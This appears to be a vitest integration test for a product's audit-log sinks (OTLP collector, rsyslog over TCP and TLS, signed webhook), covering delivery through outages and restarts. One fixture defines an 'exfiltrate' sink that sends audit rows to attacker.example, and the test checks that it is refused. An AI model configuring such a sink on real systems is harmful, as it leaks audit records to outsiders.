import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, connect } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import tls from 'node:tls';
import { startAuditSealer } from '@codevector/console-api/audit/audit-sealer';
import { createPool, type DatabasePool, sql } from '@codevector/core/create-pool';
import { createLogger } from '@codevector/core/logger';
import { writeAuditEntry } from '@codevector/core/write-audit-entry';
import { webhookSignature } from '@codevector/operator/audit-sink/sink-formats';
import { buildOperator, type Operator } from '@codevector/operator/build-operator';
import { loadOperatorConfig } from '@codevector/operator/config';
import { freePort } from '@codevector/testbed/free-port';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { recordEnterpriseFigures } from './enterprise-figures.ts';

// AuditSinks against a real OpenTelemetry Collector (built with the collector builder from the
// Go module proxy: OTLP/HTTP receiver, file exporter), a real syslog receiver (Debian's rsyslog:
// imtcp with RFC 6587 octet counting, over plain TCP and over TLS with its gtls driver (RFC
// 5425), RFC 5424 parsing, omfile) and a signed webhook: every
// sealed audit row arrives, in order, with its chain sequence and hash. The collector and rsyslog
// are stopped for a minute under traffic and started again; later the operator itself is stopped
// while rows keep coming and a new one is started. Each time delivery resumes right after the
// last acknowledged sequence: no gap, and a resent row carries the same sequence and hash.
const outageSeconds = Number(process.env['CODEVECTOR_SINK_OUTAGE_SECONDS'] ?? 60);
const repoRoot = path.resolve(import.meta.dirname, '../../..');
const log = createLogger({ name: 'audit-sink-test', level: process.env['CODEVECTOR_TEST_LOG_LEVEL'] ?? 'silent' });
const hmacKey = 'webhook-hmac-key-0123456789abcdef';
let db: DatabasePool;
let dir: string;
let operator: Operator;
let stopSealer: () => Promise<void>;
let collector: ChildProcess | undefined;
let collectorBin: string;
let otlpPort: number;
let syslogPort: number;
let syslogTlsPort: number;
let receiverDir: string;
let rsyslog: ChildProcess | undefined;
let operatorConfig: ReturnType<typeof loadOperatorConfig>;
let webhook: Server;
const webhookRows: { seq: number; hash: string }[] = [];
let badSignatures = 0;

async function startCollector(output: string): Promise<ChildProcess> {
  // Beside, not inside, the operator's source folder: it would read the config and the growing
  // JSON output (JSON is YAML) as manifests on every write.
  const config = path.join(receiverDir, `collector-${path.basename(output)}.yaml`);
  await writeFile(
    config,
    [
      'receivers:',
      '  otlp:',
      '    protocols:',
      '      http:',
      `        endpoint: 127.0.0.1:${otlpPort}`,
      'exporters:',
      '  file:',
      `    path: ${output}`,
      '    flush_interval: 100ms',
      'service:',
      '  telemetry:',
      '    metrics:',
      '      level: none',
      '  pipelines:',
      '    logs:',
      '      receivers: [otlp]',
      '      exporters: [file]',
      '',
    ].join('\n'),
  );
  const child = spawn(collectorBin, ['--config', config], { stdio: ['ignore', 'ignore', 'pipe'] });
  let stderr = '';
  child.stderr?.on('data', (chunk: Buffer) => {
    stderr += chunk.toString();
  });
  for (let i = 0; i < 200; i++) {
    const up = await fetch(`http://127.0.0.1:${otlpPort}/v1/logs`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{}',
    }).then(
      () => true,
      () => false,
    );
    if (up) return child;
    if (child.exitCode !== null) throw new Error(`collector exited: ${stderr.slice(-2000)}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`collector did not start: ${stderr.slice(-2000)}`);
}

/** The (seq, hash) of every log record the collector wrote to its file exporter outputs. */
async function collectorRows(files: string[]): Promise<{ seq: number; hash: string }[]> {
  const rows: { seq: number; hash: string }[] = [];
  for (const file of files) {
    const text = await readFile(file, 'utf8').catch(() => '');
    for (const line of text.split('\n').filter(Boolean)) {
      const request = JSON.parse(line) as {
        resourceLogs: {
          scopeLogs: { logRecords: { attributes: { key: string; value: { intValue?: string; stringValue?: string } }[] }[] }[];
        }[];
      };
      for (const resource of request.resourceLogs)
        for (const scope of resource.scopeLogs)
          for (const record of scope.logRecords) {
            const attr = (key: string) => record.attributes.find((a) => a.key === key)?.value;
            rows.push({ seq: Number(attr('audit.seq')?.intValue), hash: String(attr('audit.hash')?.stringValue) });
          }
    }
  }
  return rows;
}

/**
 * rsyslogd in the foreground with only what the test needs: a plain TCP and a TLS listener, each
 * writing to its own file (`output`, and `output` with `-tls` before `.log`).
 */
async function startRsyslog(output: string): Promise<ChildProcess> {
  const work = path.join(receiverDir, `rsyslog-${path.basename(output)}`);
  await mkdir(work, { recursive: true });
  const config = path.join(work, 'rsyslog.conf');
  const pki = (name: string) => path.join(receiverDir, name);
  await writeFile(
    config,
    [
      `global(workDirectory="${work}" maxMessageSize="64k"`,
      `  defaultNetstreamDriverCAFile="${pki('ca.pem')}" defaultNetstreamDriverCertFile="${pki('cert.pem')}" defaultNetstreamDriverKeyFile="${pki('key.pem')}")`,
      'module(load="imtcp")',
      // What rsyslog's RFC 5424 parser made of each message: a 3164 parse would have no
      // structured data (`-`), so a line here proves the framing and the format.
      'template(name="audit" type="string" string="%protocol-version% %app-name% %msgid% %structured-data%\\n")',
      `ruleset(name="plain") { action(type="omfile" file="${output}" template="audit") }`,
      `ruleset(name="tls") { action(type="omfile" file="${tlsOutput(output)}" template="audit") }`,
      `input(type="imtcp" port="${syslogPort}" address="127.0.0.1" ruleset="plain")`,
      `input(type="imtcp" port="${syslogTlsPort}" address="127.0.0.1" ruleset="tls" streamDriver.name="gtls" streamDriver.mode="1" streamDriver.authMode="anon")`,
      '',
    ].join('\n'),
  );
  const child = spawn('rsyslogd', ['-n', '-f', config, '-i', path.join(work, 'pid')], { stdio: ['ignore', 'ignore', 'pipe'] });
  let stderr = '';
  child.stderr?.on('data', (chunk: Buffer) => {
    stderr += chunk.toString();
  });
  for (let i = 0; i < 200; i++) {
    const listening = (port: number) =>
      new Promise<boolean>((resolve) => {
        const socket = connect({ host: '127.0.0.1', port }, () => {
          socket.end();
          resolve(true);
        });
        socket.once('error', () => resolve(false));
      });
    const up = (await listening(syslogPort)) && (await listening(syslogTlsPort));
    if (up) return child;
    if (child.exitCode !== null) throw new Error(`rsyslogd exited: ${stderr.slice(-2000)}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`rsyslogd did not start: ${stderr.slice(-2000)}`);
}

/** The (seq, hash) of every message rsyslog parsed as RFC 5424 with the audit structured data. */
async function syslogRows(files: string[]): Promise<{ seq: number; hash: string }[]> {
  const rows: { seq: number; hash: string }[] = [];
  for (const file of files) {
    const text = await readFile(file, 'utf8').catch(() => '');
    for (const line of text.split('\n').filter(Boolean)) {
      const parsed = /^1 codevector \S+ \[audit@32473 seq="(\d+)" hash="([0-9a-f]+)"/.exec(line);
      if (!parsed) throw new Error(`rsyslog did not parse an RFC 5424 audit message: ${line.slice(0, 300)}`);
      rows.push({ seq: Number(parsed[1]), hash: parsed[2]! });
    }
  }
  return rows;
}

const tlsOutput = (output: string) => output.replace(/\.log$/, '-tls.log');

/** A CA the test trusts and rsyslog's certificate for 127.0.0.1, made with openssl. */
function makeSyslogPki(): void {
  const run = (...args: string[]) => execFileSync('openssl', args, { cwd: receiverDir, stdio: 'pipe' });
  const ec = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes'];
  run('req', '-x509', ...ec, '-keyout', 'ca.key', '-out', 'ca.pem', '-days', '2', '-subj', '/CN=CodeVector test syslog CA');
  run('req', ...ec, '-keyout', 'key.pem', '-out', 'server.csr', '-subj', '/CN=syslog');
  execFileSync('bash', ['-c', 'printf "subjectAltName=IP:127.0.0.1\\n" > san.cnf'], { cwd: receiverDir });
  run(
    'x509',
    '-req',
    '-in',
    'server.csr',
    '-CA',
    'ca.pem',
    '-CAkey',
    'ca.key',
    '-CAcreateserial',
    '-out',
    'cert.pem',
    '-days',
    '2',
    '-extfile',
    'san.cnf',
  );
  // The operator runs in this process: its TLS connections now verify rsyslog's certificate.
  tls.setDefaultCACertificates([...tls.getCACertificates('default'), readFileSync(path.join(receiverDir, 'ca.pem'), 'utf8')]);
}

async function stop(child: ChildProcess | undefined): Promise<void> {
  if (!child || child.exitCode !== null) return;
  const exited = new Promise((resolve) => child.once('exit', resolve));
  child.kill('SIGTERM');
  await exited;
}

const chain = () =>
  db.any(
    sql.type(
      z.object({ seq: z.number(), hash: z.string() }),
    )`select seq::float8 as seq, encode(hash, 'hex') as hash from audit_chain order by seq`,
  );
const cursorOf = (name: string) =>
  db.maybeOneFirst(sql.type(z.object({ s: z.number() }))`
    select c.delivered_seq::float8 as s from audit_sink_cursors c join audit_sinks s on s.uid = c.sink_uid where s.name = ${name}`);

/** Gaps (sequence numbers never received) and duplicates that disagree with the chain. */
function check(received: readonly { seq: number; hash: string }[], expected: readonly { seq: number; hash: string }[]) {
  const got = new Map<number, Set<string>>();
  for (const row of received) got.set(row.seq, (got.get(row.seq) ?? new Set()).add(row.hash));
  const gaps = expected.filter((row) => !got.has(row.seq)).length;
  const wrong = expected.filter((row) => got.has(row.seq) && (got.get(row.seq)!.size !== 1 || !got.get(row.seq)!.has(row.hash))).length;
  return { gaps, wrong, duplicates: received.length - got.size };
}

/**
 * `check` of what a file-writing receiver holds, once its writes settled: an acknowledgement means
 * the collector or rsyslog took the rows, and their file output follows a moment later (the
 * collector's exporter flushes every 100 ms, rsyslog writes from its queue).
 */
async function settled(read: () => Promise<{ seq: number; hash: string }[]>, expected: readonly { seq: number; hash: string }[]) {
  let result = check(await read(), expected);
  for (const until = performance.now() + 15_000; result.gaps > 0 && performance.now() < until; ) {
    await new Promise((resolve) => setTimeout(resolve, 200));
    result = check(await read(), expected);
  }
  return result;
}

beforeAll(async () => {
  collectorBin = execFileSync('bash', [path.join(repoRoot, 'scripts/otel-collector.sh')], { encoding: 'utf8' }).trim();
  db = await createPool(process.env['DATABASE_URL']!);
  dir = await mkdtemp(path.join(tmpdir(), 'cv-sinks-'));
  receiverDir = await mkdtemp(path.join(tmpdir(), 'cv-receivers-'));
  makeSyslogPki();
  otlpPort = await freePort();
  syslogPort = await freePort();
  syslogTlsPort = await freePort();
  webhook = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      const signature = webhookSignature(hmacKey, String(req.headers['x-codevector-timestamp']), body);
      if (signature !== req.headers['x-codevector-signature']) {
        badSignatures++;
        res.writeHead(401).end();
        return;
      }
      for (const row of (JSON.parse(body) as { rows: { seq: number; hash: string }[] }).rows)
        webhookRows.push({ seq: row.seq, hash: row.hash });
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => webhook.listen(0, '127.0.0.1', resolve));
  const webhookUrl = `http://127.0.0.1:${(webhook.address() as AddressInfo).port}/audit`;
  await writeFile(
    path.join(dir, 'sinks.yaml'),
    `apiVersion: v1
kind: Secret
metadata: { name: siem-webhook, namespace: codevector, labels: { codevector.dev/provider-secret: "true" } }
stringData: { hmac: ${hmacKey} }
---
apiVersion: codevector.dev/v1alpha1
kind: AuditSink
metadata: { name: otel, namespace: codevector }
spec: { type: otlp, otlp: { endpoint: "http://127.0.0.1:${otlpPort}/v1/logs" }, batchSize: 50 }
---
apiVersion: codevector.dev/v1alpha1
kind: AuditSink
metadata: { name: siem, namespace: codevector }
spec: { type: webhook, webhook: { url: "${webhookUrl}", hmacSecretRef: { name: siem-webhook, key: hmac } } }
---
apiVersion: codevector.dev/v1alpha1
kind: AuditSink
metadata: { name: rsyslog, namespace: codevector }
spec: { type: syslog, syslog: { address: "127.0.0.1:${syslogPort}", appName: codevector }, batchSize: 50 }
---
apiVersion: codevector.dev/v1alpha1
kind: AuditSink
metadata: { name: rsyslog-tls, namespace: codevector }
spec: { type: syslog, syslog: { address: "127.0.0.1:${syslogTlsPort}", tls: true, appName: codevector }, batchSize: 50 }
---
apiVersion: codevector.dev/v1alpha1
kind: AuditSink
metadata: { name: exfiltrate, namespace: team-a }
spec: { type: webhook, webhook: { url: "https://attacker.example/collect", hmacSecretRef: { name: x, key: y } } }
`,
  );
  collector = await startCollector(path.join(receiverDir, 'out-1.json'));
  rsyslog = await startRsyslog(path.join(receiverDir, 'syslog-1.log'));
  stopSealer = startAuditSealer(db, log, 100);
  operatorConfig = loadOperatorConfig({
    DATABASE_URL: process.env['DATABASE_URL'],
    CODEVECTOR_ENCRYPTION_KEY: randomBytes(32).toString('base64'),
    CODEVECTOR_OPERATOR_NAMESPACE: 'codevector',
    CODEVECTOR_AUDIT_DELIVERY_MS: '200',
  });
  operator = buildOperator({ config: operatorConfig, db, log, source: { type: 'dir', dir } });
  await operator.start();
}, 600_000);

afterAll(async () => {
  await operator?.stop();
  await stopSealer?.();
  collector?.kill('SIGKILL');
  rsyslog?.kill('SIGKILL');
  await new Promise<void>((resolve) => (webhook ? webhook.close(() => resolve()) : resolve()));
  await db?.end();
  if (dir) await rm(dir, { recursive: true, force: true });
  if (receiverDir) await rm(receiverDir, { recursive: true, force: true });
});

describe('AuditSink', () => {
  it('refuses a sink outside the installation namespace, on the record', async () => {
    await expect
      .poll(() =>
        db.anyFirst(sql.type(z.object({ action: z.string() }))`select action from audit_log where target_name = 'team-a/exfiltrate'`),
      )
      .toEqual(['audit_sink.refused']);
  });

  it(
    `streams every row, in order, through a ${outageSeconds} s outage of the collector and rsyslog under traffic, with no gap`,
    async () => {
      const traffic = startTraffic();
      const outputs = [path.join(receiverDir, 'out-1.json')];
      const syslogOutputs = [path.join(receiverDir, 'syslog-1.log')];
      // Delivering before the outage.
      await expect.poll(async () => (await collectorRows(outputs)).length, { timeout: 30_000 }).toBeGreaterThan(20);
      await expect.poll(async () => (await syslogRows(syslogOutputs)).length, { timeout: 30_000 }).toBeGreaterThan(20);
      await expect.poll(async () => (await syslogRows(syslogOutputs.map(tlsOutput))).length, { timeout: 30_000 }).toBeGreaterThan(20);

      await Promise.all([stop(collector), stop(rsyslog)]);
      const down = performance.now();
      const writtenBefore = traffic.written();
      await new Promise((resolve) => setTimeout(resolve, outageSeconds * 1000));
      const stalled = {
        otel: (await cursorOf('otel')) ?? 0,
        rsyslog: (await cursorOf('rsyslog')) ?? 0,
        rsyslogTls: (await cursorOf('rsyslog-tls')) ?? 0,
      };
      // Rows kept coming and were sealed while both receivers were away.
      expect(traffic.written() - writtenBefore).toBeGreaterThan(outageSeconds * 10);
      expect((await chain()).at(-1)!.seq).toBeGreaterThan(Math.max(stalled.otel, stalled.rsyslog, stalled.rsyslogTls));
      outputs.push(path.join(receiverDir, 'out-2.json'));
      syslogOutputs.push(path.join(receiverDir, 'syslog-2.log'));
      [collector, rsyslog] = await Promise.all([startCollector(outputs[1]!), startRsyslog(syslogOutputs[1]!)]);
      const outage = (performance.now() - down) / 1000;

      await new Promise((resolve) => setTimeout(resolve, 2000));
      await traffic.stop();
      await caughtUp();

      const expected = await chain();
      const otel = await settled(() => collectorRows(outputs), expected);
      const syslog = await settled(() => syslogRows(syslogOutputs), expected);
      const syslogTls = await settled(() => syslogRows(syslogOutputs.map(tlsOutput)), expected);
      const siem = check(webhookRows, expected);
      // Resumed from the last acknowledged sequence: what came back first is the next row.
      const resumedAt = {
        otel: Math.min(...(await collectorRows([outputs[1]!])).map((r) => r.seq)),
        rsyslog: Math.min(...(await syslogRows([syslogOutputs[1]!])).map((r) => r.seq)),
        rsyslogTls: Math.min(...(await syslogRows([tlsOutput(syslogOutputs[1]!)])).map((r) => r.seq)),
      };
      const receivers = [otel, syslog, syslogTls, siem];
      figures.sink_gap_rows = receivers.reduce((n, r) => n + r.gaps, 0);
      figures.sink_wrong_rows = receivers.reduce((n, r) => n + r.wrong, 0);
      figures.sink_duplicate_rows = receivers.reduce((n, r) => n + r.duplicates, 0);
      figures.sink_receivers = receivers.length;
      figures.sink_outage_s = Math.round(outage * 10) / 10;
      figures.sink_rows = expected.length;
      figures.sink_resume_offset_rows =
        Math.abs(resumedAt.otel - (stalled.otel + 1)) +
        Math.abs(resumedAt.rsyslog - (stalled.rsyslog + 1)) +
        Math.abs(resumedAt.rsyslogTls - (stalled.rsyslogTls + 1));
      expect(otel).toMatchObject({ gaps: 0, wrong: 0 });
      expect(syslog).toMatchObject({ gaps: 0, wrong: 0 });
      expect(syslogTls).toMatchObject({ gaps: 0, wrong: 0 });
      expect(siem).toEqual({ gaps: 0, wrong: 0, duplicates: 0 });
      expect(resumedAt).toEqual({ otel: stalled.otel + 1, rsyslog: stalled.rsyslog + 1, rsyslogTls: stalled.rsyslogTls + 1 });
      expect(badSignatures).toBe(0);
      // In order: each receiver saw sequence numbers rising, except resends after the outage.
      expect(webhookRows.map((r) => r.seq)).toEqual([...webhookRows.map((r) => r.seq)].sort((a, b) => a - b));
      collectorFiles = outputs;
      syslogFiles = syslogOutputs;
      recordEnterpriseFigures('sink', figures);
    },
    240_000 + outageSeconds * 1000,
  );

  it('reports progress and the failure of the outage in the sink’s state', async () => {
    const state = await db.any(sql.type(z.object({ name: z.string(), failures: z.number(), last_error: z.string().nullable() }))`
      select s.name, failures::int, last_error from audit_sink_cursors c join audit_sinks s on s.uid = c.sink_uid
      where s.name in ('otel', 'rsyslog', 'rsyslog-tls') order by s.name`);
    expect(state).toHaveLength(3);
    for (const sink of state) {
      expect(sink.failures).toBeGreaterThan(0);
      expect(sink.last_error).toMatch(/ECONNREFUSED|failed/);
    }
  });

  it('resumes after the operator restarts, from each sink’s last acknowledged sequence, with no gap', async () => {
    const traffic = startTraffic();
    await new Promise((resolve) => setTimeout(resolve, 2000));
    await operator.stop();
    const acknowledged = { siem: (await cursorOf('siem')) ?? 0 };
    const webhookBefore = webhookRows.length;
    // Rows written and sealed while no operator runs.
    await new Promise((resolve) => setTimeout(resolve, 5000));
    expect((await chain()).at(-1)!.seq).toBeGreaterThan(acknowledged.siem);
    operator = buildOperator({ config: operatorConfig, db, log, source: { type: 'dir', dir } });
    await operator.start();
    await new Promise((resolve) => setTimeout(resolve, 2000));
    await traffic.stop();
    await caughtUp();

    const expected = await chain();
    const gaps = [
      await settled(() => collectorRows(collectorFiles), expected),
      await settled(() => syslogRows(syslogFiles), expected),
      await settled(() => syslogRows(syslogFiles.map(tlsOutput)), expected),
      check(webhookRows, expected),
    ];
    figures.sink_restart_gap_rows = gaps.reduce((n, g) => n + g.gaps, 0);
    figures.sink_restart_wrong_rows = gaps.reduce((n, g) => n + g.wrong, 0);
    for (const g of gaps) expect(g).toMatchObject({ gaps: 0, wrong: 0 });
    // The new operator starts right after the webhook's cursor: nothing skipped, nothing before
    // it resent.
    expect(webhookRows[webhookBefore]?.seq).toBe(acknowledged.siem + 1);
    figures.sink_restart_duplicate_rows = gaps.reduce((n, g) => n + g.duplicates, 0);
    // One change, one row: the new operator's resync of the five sinks wrote no audit rows.
    const sinkRows = await db.anyFirst(sql.type(z.object({ action: z.string() }))`
      select action from audit_log where target_type = 'audit_sink' order by id`);
    expect(sinkRows.filter((a) => a === 'audit_sink.created')).toHaveLength(4);
    recordEnterpriseFigures('sink', figures);
  }, 240_000);
});

const figures = {
  sink_gap_rows: -1,
  sink_wrong_rows: -1,
  sink_duplicate_rows: -1,
  sink_outage_s: 0,
  sink_rows: 0,
  sink_receivers: 0,
  sink_resume_offset_rows: -1,
  sink_restart_gap_rows: -1,
  sink_restart_wrong_rows: -1,
  sink_restart_duplicate_rows: -1,
};
let collectorFiles: string[] = [];
let syslogFiles: string[] = [];

/** Gateway-like audit traffic (a rejection every ~25 ms) until stopped. */
function startTraffic() {
  let writing = true;
  let written = 0;
  const done = (async () => {
    while (writing) {
      await db.transaction((tx) =>
        writeAuditEntry(tx, {
          action: 'gateway.rate_limit_exceeded',
          targetType: 'api_key',
          targetName: `key-${written % 7}`,
          actor: `dev${written % 5}@example.com`,
          actorSource: 'gateway',
          detail: { n: written },
        }),
      );
      written++;
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
  })();
  return {
    written: () => written,
    async stop() {
      writing = false;
      await done;
    },
  };
}

/** Every sink's cursor at the head of the sealed chain; says where each one stands if not. */
async function caughtUp(): Promise<void> {
  const sinks = ['otel', 'siem', 'rsyslog', 'rsyslog-tls'];
  for (const until = performance.now() + 90_000; performance.now() < until; ) {
    const h = (await chain()).at(-1)?.seq ?? 0;
    const cursors = await Promise.all(sinks.map((name) => cursorOf(name)));
    if (cursors.every((c) => c === h)) return;
    await new Promise((resolve) => setTimeout(resolve, 200));
  }
  const state = await db.any(sql.type(
    z.object({ name: z.string(), delivered: z.number(), failures: z.number(), last_error: z.string().nullable() }),
  )`
    select s.name, coalesce(c.delivered_seq, 0)::float8 as delivered, coalesce(c.failures, 0)::int as failures, c.last_error
    from audit_sinks s left join audit_sink_cursors c on c.sink_uid = s.uid order by s.name`);
  throw new Error(`sinks did not catch up with seq ${(await chain()).at(-1)?.seq}: ${JSON.stringify(state)}`);
}
